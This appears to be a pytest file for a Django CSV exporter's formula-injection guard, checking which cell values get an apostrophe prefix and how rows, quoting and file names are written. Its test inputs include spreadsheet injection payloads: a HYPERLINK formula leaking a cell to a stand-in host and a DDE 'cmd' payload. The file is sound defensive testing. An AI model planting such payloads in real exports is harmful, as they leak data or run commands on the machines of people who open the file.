"""The formula guard and the file shape of the one CSV writer."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils.translation import gettext_lazy

from coalition.csvexport import cell, csv_lines, csv_response


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A2,"Click")', '\'=HYPERLINK("http://x.example/?"&A2,"Click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0@SUM(1)", "'\u00a0@SUM(1)"),
        ("-", "'-"),
        ("+", "'+"),
        ("- a list item", "'- a list item"),
        # Plain numbers and E.164 phones hold nothing a spreadsheet could run.
        ("+17735550142", "+17735550142"),
        ("-12", "-12"),
        ("+3.5", "+3.5"),
        ("-0.25", "-0.25"),
        (".5", ".5"),
        # Everything else is left alone.
        ("", ""),
        ("   ", "   "),
        ("Ana María Núñez", "Ana María Núñez"),
        ("1+1", "1+1"),
        ("a=b", "a=b"),
        ("(773) 555-0142", "(773) 555-0142"),
        ("ana@example.org", "ana@example.org"),
        ("'already text", "'already text"),
        ("-١٢", "'-١٢"),
    ],
)
def test_text_cells_are_guarded_only_when_a_spreadsheet_would_run_them(value: str, written: str) -> None:
    assert cell(value) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (-5, -5),
        (3.5, 3.5),
        (Decimal("-1.50"), Decimal("-1.50")),
        (True, True),
        (datetime.date(2026, 6, 1), "2026-06-01"),
        (datetime.datetime(2026, 6, 1, 9, 30, tzinfo=datetime.UTC), "2026-06-01T09:30:00+00:00"),
        (gettext_lazy("=lazy"), "'=lazy"),
    ],
)
def test_other_values(value: Any, written: Any) -> None:
    assert cell(value) == written


def test_an_object_is_guarded_by_its_text() -> None:
    class Named:
        def __str__(self) -> str:
            return "=1+1"

    assert cell(Named()) == "'=1+1"


def test_lines_start_with_a_bom_quote_every_field_and_keep_separators_inside_the_cell() -> None:
    lines = list(csv_lines(["name", "note"], [["Ana", 'a,b;=1+1 "q"\n=2'], ["", None]]))
    assert lines[0] == '\ufeff"name","note"\r\n'
    assert lines[2] == '"",""\r\n'
    rows = list(csv.reader(io.StringIO("".join(lines)[1:], newline="")))
    assert rows == [["name", "note"], ["Ana", 'a,b;=1+1 "q"\n=2'], ["", ""]]


def test_the_response_streams_an_attachment_with_a_safe_file_name() -> None:
    response = csv_response(filename="roster Núñez.csv", header=["a"], rows=iter([["=1"]]))
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''roster%20N%C3%BA%C3%B1ez.csv" in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == '\ufeff"a"\r\n"\'=1"\r\n'.encode()
